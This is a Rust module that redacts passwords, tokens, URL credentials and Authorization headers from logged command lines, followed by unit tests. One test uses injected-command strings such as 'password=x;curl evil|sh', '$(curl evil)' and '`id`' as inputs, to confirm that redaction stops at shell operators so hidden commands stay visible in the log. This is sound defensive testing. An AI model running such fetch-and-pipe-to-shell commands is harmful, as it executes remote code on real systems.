//! Takes passwords out of what is published. Rules see the original; a log that many people and machines can read does
//! not need it. Conservative: what is taken out ends at the first white space, quote or shell operator, so that nobody
//! hides a command behind `password=`.

use std::borrow::Cow;

/// What stands in the place of a secret.
pub const REDACTED: &str = "[redacted]";

/// Ends of names whose value is a secret, compared without case, `-` and `_`.
const SECRET_NAMES: &[&str] =
    &["password", "passwd", "passphrase", "secret", "token", "apikey", "accesskey", "secretkey", "privatekey"];

/// Programs with a short option for a password: the beginning of the program's name, the option, and whether what
/// stands before a colon in its value (a user name) is kept.
const SHORT_OPTIONS: &[(&str, &str, bool)] =
    &[("mysql", "-p", false), ("mariadb", "-p", false), ("sshpass", "-p", false), ("curl", "-u", true)];

/// Options of [`SHORT_OPTIONS`] whose value may be the next argument. Not those of mysql: what follows its `-p` is the
/// name of a database.
const VALUE_FOLLOWS: &[&str] = &["sshpass", "curl"];

/// The arguments without their secrets.
pub(crate) fn arguments(args: Vec<Cow<'_, str>>) -> Vec<String> {
    let program = args.first().map(|arg| arg.rsplit('/').next().unwrap_or_default().to_owned()).unwrap_or_default();
    let mut secret_follows = None;
    args.into_iter()
        .enumerate()
        .map(|(index, arg)| {
            if let Some(keep_user) = secret_follows.take()
                && !arg.starts_with('-')
            {
                return hide(&arg, keep_user);
            }
            if index > 0
                && let Some((option, keep_user)) = short_option(&program, &arg)
            {
                if arg.len() == option.len() {
                    secret_follows = VALUE_FOLLOWS.iter().any(|name| program.starts_with(name)).then_some(keep_user);
                    return arg.into_owned();
                }
                return format!("{option}{}", hide(&arg[option.len()..], keep_user));
            }
            if index > 0 && arg.starts_with("--") && is_secret_name(&arg) {
                secret_follows = Some(false);
            }
            text(&arg)
        })
        .collect()
}

/// One text without `name=value` secrets, passwords in addresses and Authorization headers.
pub(crate) fn text(text: &str) -> String {
    authorization(&addresses(&assignments(text)))
}

fn short_option(program: &str, arg: &str) -> Option<(&'static str, bool)> {
    SHORT_OPTIONS
        .iter()
        .find(|(name, option, _)| program.starts_with(name) && arg.starts_with(option))
        .map(|(_, option, keep_user)| (*option, *keep_user))
}

fn hide(value: &str, keep_user: bool) -> String {
    match value.split_once(':') {
        Some((user, _)) if keep_user => format!("{user}:{REDACTED}"),
        _ => REDACTED.to_owned(),
    }
}

fn is_secret_name(name: &str) -> bool {
    let plain: String = name.chars().filter(|c| !matches!(c, '-' | '_')).collect::<String>().to_ascii_lowercase();
    SECRET_NAMES.iter().any(|secret| plain.ends_with(secret))
}

fn ends_value(c: char) -> bool {
    c.is_whitespace() || matches!(c, '\'' | '"' | '`' | ';' | '&' | '|' | '<' | '>' | '(' | ')' | '$')
}

fn is_name(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '-' | '_')
}

/// `name=value`, wherever it stands.
fn assignments(text: &str) -> String {
    let mut result = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(equals) = rest.find('=') {
        let (before, value) = (&rest[..equals], &rest[equals + 1..]);
        let name = &before[before.rfind(|c| !is_name(c)).map_or(0, |at| at + char_length(before, at))..];
        result.push_str(&rest[..=equals]);
        rest = value;
        if is_secret_name(name) {
            let end = value.find(ends_value).unwrap_or(value.len());
            if end > 0 {
                result.push_str(REDACTED);
            }
            rest = &value[end..];
        }
    }
    result.push_str(rest);
    result
}

fn char_length(text: &str, at: usize) -> usize {
    text[at..].chars().next().map_or(0, char::len_utf8)
}

/// `scheme://user:password@host`.
fn addresses(text: &str) -> String {
    let mut result = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find("://").map(|at| at + 3) {
        result.push_str(&rest[..start]);
        rest = &rest[start..];
        let end = rest.find(|c: char| ends_value(c) || c == '/').unwrap_or(rest.len());
        if let Some(at) = rest[..end].rfind('@')
            && let Some(colon) = rest[..at].find(':')
        {
            result.push_str(&rest[..=colon]);
            result.push_str(REDACTED);
            rest = &rest[at..];
        }
    }
    result.push_str(rest);
    result
}

/// `Authorization: Bearer value` as curl and its kin take it.
fn authorization(text: &str) -> String {
    let Some(start) = text.to_ascii_lowercase().find("authorization:").map(|at| at + "authorization:".len()) else {
        return text.to_owned();
    };
    let mut value = text[start..].trim_start();
    for scheme in ["bearer ", "basic ", "token "] {
        if value.get(..scheme.len()).is_some_and(|word| word.eq_ignore_ascii_case(scheme)) {
            value = value[scheme.len()..].trim_start();
        }
    }
    let kept = text.len() - value.len();
    let end = value.find(ends_value).unwrap_or(value.len());
    if end == 0 {
        return text.to_owned();
    }
    format!("{}{REDACTED}{}", &text[..kept], &value[end..])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn args(line: &[&str]) -> Vec<String> {
        arguments(line.iter().map(|arg| Cow::Borrowed(*arg)).collect())
    }

    #[test]
    fn secrets_leave() {
        let r = REDACTED;
        assert_eq!(text("--password=hunter2"), format!("--password={r}"));
        assert_eq!(text("DB_PASSWORD=x y"), format!("DB_PASSWORD={r} y"));
        assert_eq!(text("a?Api-Key=1&token=2&b=3"), format!("a?Api-Key={r}&token={r}&b=3"));
        assert_eq!(text("ftp://me:pa:s@s@h/x?a=b"), format!("ftp://me:{r}@h/x?a=b"));
        assert_eq!(text("Authorization: Bearer abc"), format!("Authorization: Bearer {r}"));
        assert_eq!(text("authorization: abc' x"), format!("authorization: {r}' x"));
        assert_eq!(args(&["x", "--db-password", "p", "q"]), ["x", "--db-password", r, "q"]);
        assert_eq!(args(&["/usr/bin/mysql", "-psecret", "db"]), ["/usr/bin/mysql", &format!("-p{r}"), "db"]);
        assert_eq!(args(&["mysql", "-p", "db"]), ["mysql", "-p", "db"]);
        assert_eq!(args(&["sshpass", "-p", "x", "ssh"]), ["sshpass", "-p", r, "ssh"]);
        assert_eq!(args(&["curl", "-u", "me:x", "h"]), ["curl", "-u", &format!("me:{r}"), "h"]);
    }

    #[test]
    fn everything_else_stays() {
        for same in [
            "",
            "=",
            "a=b",
            "\u{e9}=\u{e9}",
            "token",
            "password=",
            "http://host:80/a@b",
            "://",
            "authorization:",
            "passwords.txt=1",
        ] {
            assert_eq!(text(same), same);
        }
        assert_eq!(args(&["cp", "-p", "a"]), ["cp", "-p", "a"]);
        assert_eq!(args(&["x", "--password", "--force"]), ["x", "--password", "--force"]);
    }

    #[test]
    fn no_command_hides_behind_a_password() {
        let r = REDACTED;
        assert_eq!(text("password=x;curl evil|sh"), format!("password={r};curl evil|sh"));
        assert_eq!(text("password=$(curl evil)"), "password=$(curl evil)");
        assert_eq!(text("password=`id`"), "password=`id`");
    }
}
